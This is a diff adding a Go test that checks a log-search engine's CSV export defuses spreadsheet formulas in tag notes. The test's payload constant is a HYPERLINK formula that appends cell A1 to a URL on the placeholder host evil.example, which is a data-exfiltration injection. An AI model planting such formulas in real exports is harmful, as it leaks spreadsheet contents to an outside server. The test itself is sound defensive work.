@@ -4,6 +4,7 @@ import (
 	"archive/zip"
 	"bytes"
 	"context"
+	"encoding/csv"
 	"io"
 	"log/slog"
 	"os"
@@ -272,5 +273,40 @@ func TestZipSafety(t *testing.T) {
 				return nil
 			})
 		})
+	}
+}
+
+func TestDefuseCSV(t *testing.T) {
+	r := newRig(t, true)
+	c, _ := r.ingest(t, "csv", corpus.Fixture(t, "Security_short_selected.evtx"))
+	page, err := r.eng.Search(t.Context(), c.ID, store.SearchRequest{Size: 1})
+	if err != nil || len(page.Hits) != 1 {
+		t.Fatalf("search: %v", err)
+	}
+	const payload = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
+	if _, err := r.eng.TagEvent(t.Context(), c.ID, store.Tag{DocID: page.Hits[0].ID, Note: payload}); err != nil {
+		t.Fatal(err)
+	}
+	var buf bytes.Buffer
+	if _, err := r.eng.Export(t.Context(), c.ID, engine.ExportRequest{Format: engine.FormatCSV}, &buf); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, row := range rows {
+		for _, cell := range row {
+			if len(cell) > 1 && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("cell %q starts a formula", cell)
+			}
+			if cell == "'"+payload {
+				found = true
+			}
+		}
+	}
+	if !found {
+		t.Errorf("the tag note was not exported as defused text")
 	}
 }
